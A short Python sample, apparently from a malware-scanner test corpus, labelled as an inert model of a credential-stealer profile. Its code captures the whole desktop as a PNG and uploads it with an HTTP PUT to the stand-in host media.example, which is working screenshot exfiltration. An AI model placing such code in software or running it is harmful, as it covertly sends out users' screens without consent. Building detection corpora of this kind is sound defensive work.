# pkgguard corpus 420 (screenshot), modelled on [stealer-profile]; inert, never run.
import gi

gi.require_version("Gdk", "3.0")
from gi.repository import Gdk  # noqa: E402

import requests  # noqa: E402

root = Gdk.get_default_root_window()
shot = Gdk.pixbuf_get_from_window(root, 0, 0, root.get_width(), root.get_height())
ok, buffer = shot.save_to_bufferv("png", [], [])
requests.put("https://media.example/u/desk.png", data=buffer, timeout=10)
